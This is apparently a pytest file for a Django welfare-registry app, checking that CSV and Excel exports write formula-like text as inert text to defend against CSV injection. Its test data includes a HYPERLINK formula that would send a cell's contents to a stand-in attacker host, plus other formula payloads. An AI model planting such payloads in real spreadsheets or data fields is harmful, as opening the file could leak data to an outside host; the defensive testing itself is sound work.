"""No download runs a formula (OWASP "CSV injection"): text that a spreadsheet would read as a formula is written
as text, with a leading apostrophe, while numbers and dates keep their type. Each export is fed hostile text
through the services, downloaded through its URL and read back the way Excel reads it."""

import datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy

from accounts.services import opd_save
from coordination.services import assessment_record
from core.exports import safe_cell
from households.models import Household
from households.nik import make_nik
from households.rankings import ranking_record
from households.services import household_change_status, household_register
from imports.models import ImportBatch
from interventions.models import Strategy, Target
from interventions.services import intervention_record, intervention_transition, program_save
from tests.downloads import download
from tests.factories import kelurahan
from tests.imports.helpers import csv_bytes, row
from tests.imports.helpers import upload as upload_file
from tests.recorded import recorded

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
HOSTILE = [LINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "  =1+1"]
BIRTH = datetime.date(1980, 6, 5)


def neutralised(text: str, kind: str = "csv") -> str:
    """What a cell holding `text` reads back as. A workbook is XML, which reads a carriage return as a line feed."""
    return "'" + (text.replace("\r", "\n") if kind == "xlsx" else text)


@pytest.fixture
@recorded
def hostile(supervisor) -> Household:
    """A household whose members are named like formulas, registered through the services."""
    members = [
        {"full_name": name, "sex": "L", "birth_date": BIRTH, "relation": "anak", "occupation": "+1+1"}
        for name in HOSTILE[1:]
    ]
    head = {
        "full_name": LINK,
        "sex": "L",
        "birth_date": BIRTH,
        "relation": "kepala",
        "birth_place": "@Palangka",
        "nik": make_nik(region="627104", birth_date=BIRTH, sex="L", serial=1),
    }
    household = household_register(
        actor=supervisor,
        kelurahan=kelurahan("Kameloh Baru"),
        address="-2+3 Jl. Mahir Mahar",
        p3ke_id="@SUM(1)",
        members=[head, *members],
    )
    ranking_record(household=household, source="dtsen", as_of=BIRTH, desil=2, actor=supervisor)
    household.refresh_from_db()
    return household


def head_of(household: Household):
    return household.members.get(relation="kepala")


def column(table: list[list], name: str) -> list:
    index = table[0].index(name)
    return [r[index] for r in table[1:]]


def test_safe_cell_neutralises_text_that_starts_like_a_formula_and_keeps_numbers_and_dates():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Budi - Santoso") == "Budi - Santoso"
    assert safe_cell("-5") == "'-5"  # text, even when it looks like a number
    assert safe_cell(-5) == -5 and safe_cell(Decimal("-2.50")) == Decimal("-2.50") and safe_cell(-0.5) == -0.5
    assert safe_cell(None) is None and safe_cell(datetime.date(2024, 1, 31)) == datetime.date(2024, 1, 31)
    assert safe_cell(gettext_lazy("Terlambat")) == "Terlambat"  # a lazy label becomes text
    assert safe_cell({"a": "=1"}) == "{'a': '=1'}"
    at = timezone.make_aware(datetime.datetime(2024, 1, 31, 8, 30), datetime.UTC)
    assert safe_cell(at) == datetime.datetime(2024, 1, 31, 15, 30)  # Excel has no time zones: Jakarta time


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("full", ["", "1"])
def test_registry_export_writes_formula_like_names_as_text(client_as, hostile, kind, full):
    response = client_as("supervisor").get(reverse("cases:registry_export"), {"format": kind, "full": full})
    file = download(response)
    assert file.runnable() == []
    table = file.rows()
    assert sorted(column(table, "nama")) == sorted(neutralised(name, kind) for name in HOSTILE)
    assert set(column(table, "alamat")) == {neutralised("-2+3 Jl. Mahir Mahar")}
    assert set(column(table, "id_keluarga_p3ke")) == {neutralised("@SUM(1)")}
    # the desil comes with the list and the date it is from
    assert set(column(table, "daftar_desil")) == {"DTSEN"} and set(column(table, "desil_per_tanggal")) == {"05/06/1980"}
    if kind == "xlsx":  # numbers stay numbers
        assert set(column(table, "id_rumah_tangga")) == {hostile.pk}
        assert set(column(table, "desil")) == {2}
        assert set(column(table, "intervensi_tersalurkan_rumah_tangga")) == {0}
    else:
        assert set(column(table, "desil")) == {"2"} and set(column(table, "id_rumah_tangga")) == {str(hostile.pk)}


def test_registry_workbook_keeps_error_code_text_as_text_and_takes_control_characters(client_as, supervisor):
    """'#N/A' is a name, not an Excel error; a control character (which a workbook cannot hold) is no 500."""
    members = [
        {"full_name": name, "sex": "L", "birth_date": BIRTH, "relation": relation}
        for name, relation in (("#N/A", "kepala"), ("Budi\x01Santoso", "anak"))
    ]
    household_register(actor=supervisor, kelurahan=kelurahan("Kameloh Baru"), address="Jl. Kameloh", members=members)
    file = download(client_as("supervisor").get(reverse("cases:registry_export"), {"format": "xlsx"}))
    names = {cell.value: cell.data_type for cell in file.cells() if cell.where.startswith("Registri!E")}
    assert names == {"nama": "s", "#N/A": "s", "Budi\ufffdSantoso": "s"}


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_intervention_export_writes_formula_like_notes_and_names_as_text(client_as, hostile, supervisor, kind):
    program = program_save(
        actor=supervisor,
        opd=supervisor.opd,
        name="-Bantuan usaha",
        strategy=Strategy.RAISE_INCOME,
        target=Target.PERSON,
        unit="=paket",
        funding_source="apbd_kota",
    )
    intervention_record(
        program=program,
        person=head_of(hostile),
        recorded_by=supervisor,
        amount=1_250_000,
        quantity=Decimal("2.50"),
        notes="\r=1+1",
    )
    file = download(client_as("supervisor").get(reverse("interventions:export"), {"format": kind}))
    assert file.runnable() == []
    table = file.rows()
    assert column(table, "penerima") == [neutralised(LINK)]
    assert column(table, "catatan") == [neutralised("\r=1+1", kind)]
    assert column(table, "program") == [neutralised("-Bantuan usaha")]
    assert column(table, "satuan") == [neutralised("=paket")]
    if kind == "xlsx":
        assert column(table, "nilai_rp") == [1_250_000] and column(table, "jumlah") == [2.5]
        assert column(table, "id_rumah_tangga") == [hostile.pk]
    else:
        assert column(table, "nilai_rp") == ["1250000"] and column(table, "jumlah") == ["2.5"]


def test_change_log_export_writes_formula_like_names_and_reasons_as_text(client_as, hostile, supervisor):
    household_change_status(household=hostile, status="poor", reason="-1+1 pindah", actor=supervisor)
    file = download(client_as("supervisor").get(reverse("audit:changes"), {"format": "csv"}))
    assert file.runnable() == []
    table = file.rows()
    assert {neutralised(name) for name in HOSTILE} <= set(column(table, "Data"))
    assert neutralised("-1+1 pindah") in column(table, "Catatan")
    assert str(hostile.pk) in column(table, "No. rumah tangga")


def test_access_log_export_writes_formula_like_names_as_text(client_as, hostile):
    client = client_as("supervisor")
    assert client.post(reverse("households:reveal_nik", args=[head_of(hostile).pk])).status_code == 200
    file = download(client.get(reverse("audit:access"), {"format": "csv"}))
    assert file.runnable() == []
    assert column(file.rows(), "Data") == ["", neutralised(LINK)]  # the export itself, then the reveal


def test_import_error_report_writes_the_files_formulas_as_text(client_as):
    client = client_as("supervisor")
    bad = [
        row(nama=LINK, nik="62710405068"),  # too short: refused
        row(nama="-2+3", nik="12", alamat="@SUM(1)", id_keluarga_p3ke="P3KE-T-009", no_kk="6271042001000009"),
    ]
    upload_file(client, csv_bytes(bad, delimiter=";"), "p3ke.csv")
    batch = ImportBatch.objects.get()
    assert batch.summary["error_rows"] == 2
    file = download(client.get(reverse("imports:errors", args=[batch.pk])))
    assert file.runnable() == []
    table = file.rows()
    assert column(table, "nama") == [neutralised(LINK), neutralised("-2+3")]
    assert column(table, "alamat")[1] == neutralised("@SUM(1)")
    assert column(table, "baris_asal") == [2, 3]  # numbers


def test_consolidation_workbook_downloads_with_formula_like_names_as_text(client_as, hostile, supervisor):
    assessment_record(household=hostile, actor=supervisor, needs=[("no_work", head_of(hostile), "")])
    response = client_as("dinsos_caseworker").get(
        reverse("coordination:consolidation"), {"kelurahan": kelurahan("Kameloh Baru").pk, "format": "xlsx"}
    )
    file = download(response)
    assert file.runnable() == []
    table = file.rows()
    assert table[0][:2] == ["No. rumah tangga", "Kepala keluarga"]
    assert "Usia kerja tanpa pekerjaan/penghasilan" in table[0]  # a lazy need label, as text
    assert table[1][:2] == [hostile.pk, neutralised(LINK)]
    assert "Dirujuk (1)" in table[1]


def test_dashboard_workbook_writes_a_formula_like_opd_name_as_text(client_as, hostile, supervisor, city_admin):
    opd = opd_save(actor=city_admin, name=LINK, short_name="+1+1")
    program = program_save(
        actor=city_admin,
        opd=opd,
        name="Program uji",
        strategy=Strategy.RAISE_INCOME,
        target=Target.PERSON,
        funding_source="apbd_kota",
    )
    intervention = intervention_record(program=program, person=head_of(hostile), recorded_by=supervisor)
    intervention_transition(
        intervention=intervention, status="delivered", actor=supervisor, delivered_on=timezone.localdate(), amount=5000
    )
    for params in ({}, {"opd": opd.pk}):
        file = download(client_as("supervisor").get(reverse("dashboard:index"), {"format": "xlsx", **params}))
        assert file.runnable() == []
        by_opd = file.rows(sheet=2)
        hostile_row = next(r for r in by_opd if r[0] == neutralised("+1+1"))
        assert hostile_row[3] == 1 and hostile_row[6] == 5000  # delivered, Rupiah: numbers
    summary = file.rows(sheet=0)
    assert neutralised("+1+1") in summary[1]
    assert all(isinstance(r[1], int) for r in summary[3:] if r and r[1] is not None)
